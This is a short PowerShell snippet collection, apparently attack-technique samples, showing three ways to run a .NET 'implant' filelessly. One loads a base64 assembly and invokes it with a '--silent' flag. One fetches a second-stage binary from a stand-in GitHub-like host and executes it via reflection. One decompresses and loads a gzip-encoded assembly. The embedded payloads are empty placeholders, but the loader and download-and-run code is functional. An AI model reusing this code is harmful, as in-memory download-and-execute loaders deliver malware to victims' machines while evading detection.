# load the .NET implant straight into memory
$blob = 'TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA='
$asm = [System.Reflection.Assembly]::Load([Convert]::FromBase64String($blob))
$asm.EntryPoint.Invoke($null, @(, [string[]]@('--silent')))

# second stage fetched as bytes
$bytes = (Invoke-WebRequest -Uri 'https://raw.githubusercontent.example/x/y/main/stage2.bin' -UseBasicParsing).Content
$stage2 = [AppDomain]::CurrentDomain.Load($bytes)
$stage2.GetType('Stage2.Program').GetMethod('Run').Invoke($null, $null)

# compressed spelling
$gz = [Convert]::FromBase64String('H4sIAAAAAAAEAAMAAAAAAAAAAAA=')
$ms = New-Object IO.MemoryStream(, $gz)
$ds = New-Object IO.Compression.GZipStream($ms, [IO.Compression.CompressionMode]::Decompress)
$out = New-Object IO.MemoryStream
$ds.CopyTo($out)
[Reflection.Assembly]::Load($out.ToArray()) | Out-Null
